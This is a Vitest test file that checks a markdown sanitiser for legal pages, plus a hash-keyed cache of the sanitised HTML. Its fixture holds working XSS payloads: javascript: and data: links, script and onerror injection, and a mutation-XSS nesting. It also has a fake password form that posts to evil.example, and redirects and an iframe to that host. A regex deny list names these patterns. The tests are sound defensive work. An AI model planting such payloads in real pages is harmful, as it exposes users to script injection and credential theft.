import { describe, expect, it } from 'vitest';
import { legalDocumentJson, markdownToHtml } from './markdown.ts';

/** Brand markdown an attacker (or a careless copy-paste) could put in terms or privacy (issue 8). */
const HOSTILE = `# Terms

Normal **text** with [a link](https://harbour.example/help) and [mail](mailto:help@harbour.example).

[click me](javascript:window.__pwned='js-link') and [data](data:text/html;base64,PHNjcmlwdD4=)

<script>window.__pwned = 'script'</script>
<img src=x onerror="window.__pwned='onerror'">
<a href="JaVaScRiPt:alert(1)">mixed case</a>
<a href="data:text/html,<script>alert(1)</script>">data url</a>
<style>body { display: none }</style>
<div style="position:fixed;inset:0;background:red">overlay</div>
<form action="https://evil.example/steal"><input name="password"><button>Log in again</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example">
<iframe src="https://evil.example"></iframe>
<base href="https://evil.example/">
<svg><script>window.__pwned='svg'</script><a xlink:href="javascript:alert(1)">svg link</a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<p id="session" class="x" onclick="alert(1)">clobber</p>
<object data="x.swf"></object><embed src="x.swf">
`;

describe('given hostile brand markdown', () => {
  const html = markdownToHtml(HOSTILE);

  it('keeps the text structure and safe links', () => {
    expect(html).toContain('<strong>text</strong>');
    expect(html).toContain('<a href="https://harbour.example/help">a link</a>');
    expect(html).toContain('<a href="mailto:help@harbour.example">mail</a>');
    expect(html).toContain('overlay');
    // The javascript: and data: links keep their text, not their target.
    expect(html).toContain('<a>click me</a>');
    expect(html).toContain('<a>data</a>');
  });

  it('drops every script, handler, style, form, meta, base, iframe, svg, object and javascript:/data: URL', () => {
    for (const banned of [
      /<script/i,
      /\son\w+=/i,
      /<style/i,
      /\sstyle=/i,
      /<form/i,
      /<input/i,
      /<button/i,
      /<meta/i,
      /<base/i,
      /<iframe/i,
      /<svg/i,
      /<math/i,
      /<object/i,
      /<embed/i,
      /<img/i,
      /href="\s*javascript:/i,
      /href="\s*data:/i,
      /xlink:href/i,
      /\sid=/i,
      /\sclass=/i,
      /pwned = 'script'/,
    ]) {
      expect(html, String(banned)).not.toMatch(banned);
    }
  });

  it('emits the document as JSON data, never as an HTML page', () => {
    const json = legalDocumentJson(HOSTILE);
    expect(JSON.parse(json)).toEqual({ html });
    expect(json.startsWith('{"html":')).toBe(true);
  });
});

describe('the cache of sanitised legal HTML (issue 7: generate without loading jsdom when nothing changed)', () => {
  it('keeps each result under the hash of its input and sanitiser, and a second run reads it', async () => {
    const { mkdtempSync, readdirSync, readFileSync, writeFileSync } = await import('node:fs');
    const { tmpdir } = await import('node:os');
    const path = await import('node:path');
    const { sanitizeLegalHtml } = await import('./markdown.ts');
    const dir = path.join(mkdtempSync(path.join(tmpdir(), 'legal-cache-')), 'legal-html');
    const fresh = sanitizeLegalHtml(HOSTILE, null);
    expect(sanitizeLegalHtml(HOSTILE, dir)).toBe(fresh);
    const [entry, ...others] = readdirSync(dir);
    expect(others).toEqual([]);
    expect(entry).toMatch(/^[0-9a-f]{64}\.html$/);
    expect(readFileSync(path.join(dir, entry ?? ''), 'utf8')).toBe(fresh);
    expect(fresh).not.toMatch(/<script|\sonerror=|href="javascript:/i);
    // The second run answers from the entry (marked here to tell): the same input never reaches DOMPurify again.
    writeFileSync(path.join(dir, entry ?? ''), `${fresh}<!-- from the cache -->`);
    expect(sanitizeLegalHtml(HOSTILE, dir)).toBe(`${fresh}<!-- from the cache -->`);
    // Another input is another entry.
    expect(sanitizeLegalHtml('<p>other</p>', dir)).toBe('<p>other</p>');
    expect(readdirSync(dir)).toHaveLength(2);
  });

  it('is found in node_modules/.cache of the nearest folder with a node_modules, and is off with TELCO_PORTAL_CACHE=0', async () => {
    const { mkdirSync, mkdtempSync } = await import('node:fs');
    const { tmpdir } = await import('node:os');
    const path = await import('node:path');
    const { legalHtmlCacheDir } = await import('./markdown.ts');
    const root = mkdtempSync(path.join(tmpdir(), 'legal-root-'));
    mkdirSync(path.join(root, 'node_modules'));
    mkdirSync(path.join(root, 'app', 'src'), { recursive: true });
    expect(legalHtmlCacheDir(path.join(root, 'app', 'src'))).toBe(
      path.join(root, 'node_modules', '.cache', 'telco-portal', 'legal-html'),
    );
    const before = process.env.TELCO_PORTAL_CACHE;
    process.env.TELCO_PORTAL_CACHE = '0';
    try {
      expect(legalHtmlCacheDir(root)).toBeNull();
    } finally {
      if (before === undefined) delete process.env.TELCO_PORTAL_CACHE;
      else process.env.TELCO_PORTAL_CACHE = before;
    }
  });
});
